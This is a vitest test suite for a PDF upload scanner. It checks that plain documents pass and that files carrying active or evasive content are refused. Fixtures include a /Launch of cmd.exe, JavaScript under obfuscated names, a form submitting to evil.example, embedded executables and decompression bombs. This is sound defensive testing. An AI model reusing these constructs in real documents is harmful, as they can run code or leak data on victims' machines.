import { Readable } from 'node:stream';
import { deflateSync } from 'node:zlib';
import { describe, expect, it, vi } from 'vitest';
import { faultOfPdf } from '#services/server/files/pdf.ts';
import { packedObjects, part, pdf } from './samples.ts';

// Hundreds of megabytes are unpacked here, which a machine that does much else takes its time for.
vi.setConfig({ testTimeout: 60_000 });

/** Returns the same bytes in pieces of this size: the searched text may be cut anywhere. */
function* pieces(bytes: Buffer, size: number) {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}
async function faults(bytes: Buffer): Promise<unknown> {
  const [whole, cut] = [await faultOfPdf(Readable.from([bytes])), await faultOfPdf(Readable.from(pieces(bytes, 7)))];
  expect(cut).toBe(whole);
  return whole;
}

describe('a document at rest is taken', () => {
  it.each([
    ['of one page', pdf()],
    [
      'with links, outlines and a form to fill in',
      pdf(
        '/Outlines << /First 7 0 R /Last 7 0 R >> /AcroForm << /Fields [] >>',
        '7 0 obj\n<< /A << /S /URI /URI (https://bank.example) >> >>\nendobj\n',
      ),
    ],
    ['with packed content', pdf('', part('/Filter /FlateDecode', 'BT /F1 12 Tf (Akta) Tj ET'))],
    ['with a colour profile', pdf('', part('/N 3 /Filter /FlateDecode', '\x00\x00\x02\x0cacsp RGB XYZ'))],
    ['with a number of pictures for a button', pdf('', '7 0 obj\n<< /AP << /N 5 0 R /D 6 0 R >> >>\nendobj\n')],
    [
      'with brackets and signs of comments in strings, and with comments',
      pdf(
        '',
        '7 0 obj\n<< /T (100 % \\( a \\) (b) ) /U (x) >> % made by a scanner (1\nendobj\n',
        part('/Filter /FlateDecode', 'BT ET'),
      ),
    ],
    ['with content after a return and a line feed', pdf('', part('/Filter /FlateDecode', 'BT ET', { eol: '\r\n' }))],
    ['with content as it stands', pdf('', part('', 'BT (a / b) Tj ET', { packed: false }))],
    ['with packed objects', pdf('', packedObjects('<< /Type /Font /BaseFont /Inter >>'))],
    [
      'with packed objects after a return and a line feed',
      pdf('', part('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '5 0 << /Type /Font >>', { eol: '\r\n' })),
    ],
    [
      'with a scanned page',
      pdf('', part('/Subtype /Image /Filter /DCTDecode', '\xff\xd8 not /JS of anything', { packed: false })),
    ],
  ])('%s', async (_, bytes) => {
    expect(await faults(bytes)).toBeNull();
  });
});

describe('a document that does something is refused', () => {
  it.each([
    ['runs a script', pdf('', '5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n')],
    ['hides the name of what it runs', pdf('', '5 0 obj\n<< /S /J#61v#61Script >>\nendobj\n')],
    ['starts a program', pdf('', '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n')],
    ['acts when it is opened', pdf('/OpenAction 5 0 R')],
    ['acts when a page is turned', pdf('/AA << /WC 5 0 R >>')],
    ['carries a file', pdf('', part('/Type /EmbeddedFile /Filter /FlateDecode', 'MZ'))],
    ['names a file it carries', pdf('/Names << /EmbeddedFiles 6 0 R >>')],
    ['sends a form', pdf('', '5 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n')],
    ['brings an active form', pdf('/AcroForm << /XFA 6 0 R >>')],
    ['packs it away', pdf('', packedObjects('<< /S /JavaScript /JS (app.alert(1)) >>'))],
    ['packs it away under a hidden name', pdf('', packedObjects('<< /S /#4aavaScript >>'))],
    [
      'keeps it among packed objects that are not packed',
      pdf('', part('/Type /ObjStm /N 1 /First 4', '5 0 << /AA 6 0 R >>', { packed: false })),
    ],
    ['tells of packed objects by half', pdf('', part('/N 1 /Filter /FlateDecode', '5 0 << /AA 6 0 R >>'))],
    ['tells of them by the other half', pdf('', part('/First 4 /Filter /FlateDecode', '5 0 << /XFA 6 0 R >>'))],
    ['keeps a short name in a part as it stands', pdf('', part('', '<< /AA 6 0 R >>', { packed: false }))],
    [
      'keeps it within a part that only a repairing program reads',
      pdf('', part('', 'x 5 0 obj << /S /JavaScript >> endobj', { packed: false })),
    ],
  ])('%s', async (_, bytes) => {
    expect(await faults(bytes)).toBe('v.berkasAktif');
  });
});

describe('a document that cannot be scanned is refused', () => {
  it.each([
    ['encrypted', pdf('', 'trailer\n<< /Encrypt 8 0 R >>\n')],
    [
      'objects written in another way',
      pdf('', packedObjects('<< /S /JavaScript >>', '/Filter [/ASCIIHexDecode /FlateDecode]')),
    ],
    ['objects whose way stands elsewhere', pdf('', packedObjects('<< /S /JavaScript >>', '/Filter 7 0 R'))],
    [
      'objects with a predictor',
      pdf('', packedObjects('<< /S /JavaScript >>', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    ],
    [
      'objects that do not unpack',
      pdf('', part('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'not packed', { packed: false })),
    ],
    [
      'objects that only a lenient program finds',
      pdf('', '9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream x\n123\nendstream\nendobj\n'),
    ],
    [
      'a comment between the names that tell of packed objects',
      pdf('', part('/N 1 % 1 0 obj\n/First 4 /Filter /FlateDecode', '5 0 << /S /JavaScript >>')),
    ],
    [
      'a string between them',
      pdf('', part('/N 1 /T (endobj ) /First 4 /Filter /FlateDecode', '5 0 << /S /JavaScript >>')),
    ],
    ['a comment that begins a part', pdf('', '7 0 obj\n<< % stream\n/AP 5 0 R >>\nendobj\n')],
    ['a string that never ends', pdf('', '( \n', packedObjects('<< /Type /Font >>'))],
    [
      'an object within the bytes of a picture',
      pdf('', part('/Filter /DCTDecode', '\xff\xd8 12 0 obj << /XFA 6 0 R >>', { packed: false })),
    ],
    ['objects within the bytes of another part', pdf('', part('', '7 0 obj << /Type /ObjStm >>', { packed: false }))],
  ])('%s', async (_, bytes) => {
    expect(await faults(bytes)).toBe('v.berkasTerkunci');
  });

  it.each([
    ['cut off', pdf().subarray(0, 120)],
    ['cut off within a part', pdf('', part('/Filter /FlateDecode', 'BT ET')).subarray(0, -90)],
  ])('%s', async (_, bytes) => {
    expect(await faults(bytes)).toBe('v.berkasRusak');
  });
});

describe('a document that expands without end is refused', () => {
  const zeroes = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024));
  const packed = (bytes: Buffer, described = '/Filter /FlateDecode') =>
    Buffer.concat([Buffer.from(`9 0 obj\n<< ${described} >>\nstream\n`), bytes, Buffer.from('\nendstream\nendobj\n')]);

  it('in one part; a page of that size is taken', async () => {
    expect(await faultOfPdf(Readable.from([pdf('', packed(zeroes(129)))]))).toBe('v.berkasMengembang');
    expect(await faultOfPdf(Readable.from([pdf('', packed(zeroes(26)))]))).toBeNull();
  });

  it('in many parts together', async () => {
    const page = packed(zeroes(100));
    expect(await faultOfPdf(Readable.from([pdf('', ...Array.from({ length: 6 }, () => page))]))).toBe(
      'v.berkasMengembang',
    );
    expect(await faultOfPdf(Readable.from([pdf('', page, page)]))).toBeNull();
  });

  it('packed twice', async () => {
    const twice = packed(deflateSync(zeroes(1)), '/Filter [/FlateDecode /FlateDecode]');
    expect(await faultOfPdf(Readable.from([pdf('', twice)]))).toBe('v.berkasMengembang');
  });
});
